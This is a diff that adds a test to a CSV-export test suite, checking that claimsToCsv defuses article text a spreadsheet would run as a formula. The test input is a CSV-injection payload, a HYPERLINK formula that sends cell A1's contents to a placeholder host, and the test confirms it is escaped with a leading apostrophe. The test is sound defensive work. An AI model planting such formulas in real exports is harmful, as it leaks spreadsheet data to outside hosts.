@@ -225,6 +225,14 @@ describe('claimsToCsv and determinism', () => {
     expect(rows[1]!.slice(0, rows[1]!.indexOf(',"') + 1)).toBe('diplomat:c1,diplomat,seats_total,national,98,,,exact,0.5,seats,rule,2023,98,14,8,diplomat:s7,');
   });
 
+  it('defuses article text that a spreadsheet would run as a formula', () => {
+    const quote = '=HYPERLINK("https://x.example/?d="&A1) Turnout was 54.19%.';
+    const csv = claimsToCsv([{ ...claims[0]!, quote, value: -1 }]);
+    const row = csv.split('\r\n')[1]!;
+    expect(row.endsWith(`,"'=HYPERLINK(""https://x.example/?d=""&A1) Turnout was 54.19%."`)).toBe(true);
+    expect(row).toContain(',-1,');
+  });
+
   it('gives the same claims for the same input, whatever happened before', () => {
     const again = extract(ingest([...files].reverse(), lexicon), lexicon);
     expect(again).toEqual(claims);
